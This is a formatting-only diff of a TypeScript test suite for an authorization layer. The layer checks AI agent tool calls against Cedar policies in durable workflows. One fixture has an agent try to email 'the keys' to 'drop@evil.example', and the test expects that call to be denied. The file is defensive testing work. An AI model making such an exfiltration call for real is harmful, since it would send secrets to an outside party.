@@ -24,7 +24,9 @@ permit (principal is Agent, action == Action::"HandOff", resource) when { resour
 `,
   },
 ]);
-const LAX = PolicyEngine.fromSources([{ name: 'lax.cedar', text: '@id("anything-goes") permit (principal, action, resource);' }]);
+const LAX = PolicyEngine.fromSources([
+  { name: 'lax.cedar', text: '@id("anything-goes") permit (principal, action, resource);' },
+]);
 
 /** The real engine of the moment, counting how often it is asked. */
 let current = STRICT;
@@ -43,10 +45,20 @@ const mailer = workflow('mailer', async (ctx) => {
   const email = await authorizeDurably(ctx, policies, {
     chain: agent,
     action: 'InvokeTool',
-    resource: { kind: 'tool', name: 'email.send', effect: 'write', args: { to: 'drop@evil.example', body: 'the keys' } },
+    resource: {
+      kind: 'tool',
+      name: 'email.send',
+      effect: 'write',
+      args: { to: 'drop@evil.example', body: 'the keys' },
+    },
     grant,
   });
-  const handoff = await authorizeDurably(ctx, policies, { chain: agent, action: 'HandOff', resource: { kind: 'agent', name: 'billing' }, grant }, { commit: true });
+  const handoff = await authorizeDurably(
+    ctx,
+    policies,
+    { chain: agent, action: 'HandOff', resource: { kind: 'agent', name: 'billing' }, grant },
+    { commit: true },
+  );
   await ctx.waitFor('go');
   const refund = await authorizeDurably(ctx, policies, {
     chain: agent,
@@ -78,14 +90,32 @@ describe('authorizeDurably', () => {
     const result = (await run.result()) as Record<string, AccessDecision>;
     expect(evaluations).toBe(3); // only the refund, decided live after the wait
 
-    expect(result.email).toMatchObject({ decision: 'deny', reason: 'policy', policies: ['no-outside-email'], grantId: grant.id });
-    expect(result.handoff).toMatchObject({ decision: 'allow', policies: ['hand-off-inside'], resource: 'agent:billing' });
+    expect(result.email).toMatchObject({
+      decision: 'deny',
+      reason: 'policy',
+      policies: ['no-outside-email'],
+      grantId: grant.id,
+    });
+    expect(result.handoff).toMatchObject({
+      decision: 'allow',
+      policies: ['hand-off-inside'],
+      resource: 'agent:billing',
+    });
     expect(result.refund).toMatchObject({ decision: 'deny', reason: 'outside grant', policies: [] });
 
     const history = await run.history();
     expect(verifyChain(history).ok).toBe(true);
-    const decisions = history.filter((event) => event.type === 'tool.authorized' || event.type === 'access.decided');
-    expect(decisions.map((event) => [event.type, event.actor, event.onBehalfOf, (event.payload as { decision: string }).decision])).toEqual([
+    const decisions = history.filter(
+      (event) => event.type === 'tool.authorized' || event.type === 'access.decided',
+    );
+    expect(
+      decisions.map((event) => [
+        event.type,
+        event.actor,
+        event.onBehalfOf,
+        (event.payload as { decision: string }).decision,
+      ]),
+    ).toEqual([
       ['tool.authorized', 'agent:mailer', ['workflow:mailer', 'user:alice'], 'deny'],
       ['access.decided', 'agent:mailer', ['workflow:mailer', 'user:alice'], 'allow'],
       ['tool.authorized', 'agent:mailer', ['workflow:mailer', 'user:alice'], 'deny'],
@@ -110,7 +140,10 @@ describe('authorizeDurably', () => {
 
   it('refuses an unknown action before anything is journaled', async () => {
     const bad = workflow('bad-action', async (ctx) => {
-      await authorizeDurably(ctx, policies, { action: 'Launch' as 'HandOff', resource: { kind: 'agent', name: 'x' } });
+      await authorizeDurably(ctx, policies, {
+        action: 'Launch' as 'HandOff',
+        resource: { kind: 'agent', name: 'x' },
+      });
       return 'unreachable';
     });
     const h = await harness({ workflows: [bad] });
